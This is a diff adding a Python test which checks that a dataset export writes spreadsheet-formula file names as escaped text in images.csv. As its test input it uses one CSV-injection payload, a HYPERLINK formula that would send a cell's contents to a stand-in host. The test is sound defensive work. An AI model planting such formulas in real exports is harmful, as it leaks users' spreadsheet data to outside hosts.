@@ -505,3 +505,21 @@ def test_a_labels_only_export_lists_which_uploaded_file_each_image_is(dataset, f
                 named |= {(subset, i["file_name"]) for i in json.loads(archive.read(name))["images"]}
         assert named == listed
     assert "images.csv" in archive.read("README.txt").decode()
+
+
+def test_an_uploaded_name_a_spreadsheet_would_run_as_a_formula_is_written_as_text(dataset):
+    """images.csv is made for spreadsheets (UTF-8 with a byte order mark): an uploaded file named
+    "=HYPERLINK(…).jpg" would have been a live formula in the cell that names it."""
+    import csv
+
+    image = dataset.images[0]
+    Image.objects.filter(pk=image.pk).update(original_name='=HYPERLINK("http://x.example/?"&A1,"open").jpg')
+    Image.objects.filter(pk=dataset.images[1].pk).update(original_name="-5 degrees.jpg")
+
+    archive = export_zip(dataset.project, format="coco")
+
+    text = archive.read("images.csv").decode("utf-8-sig")
+    rows = {int(row["file_name"].split("_")[0].split(".")[0]): row for row in csv.DictReader(io.StringIO(text))}
+    assert rows[image.pk]["original_name"] == '\'=HYPERLINK("http://x.example/?"&A1,"open").jpg'
+    assert rows[dataset.images[1].pk]["original_name"] == "'-5 degrees.jpg"
+    assert rows[dataset.images[2].pk]["original_name"] == dataset.images[2].original_name
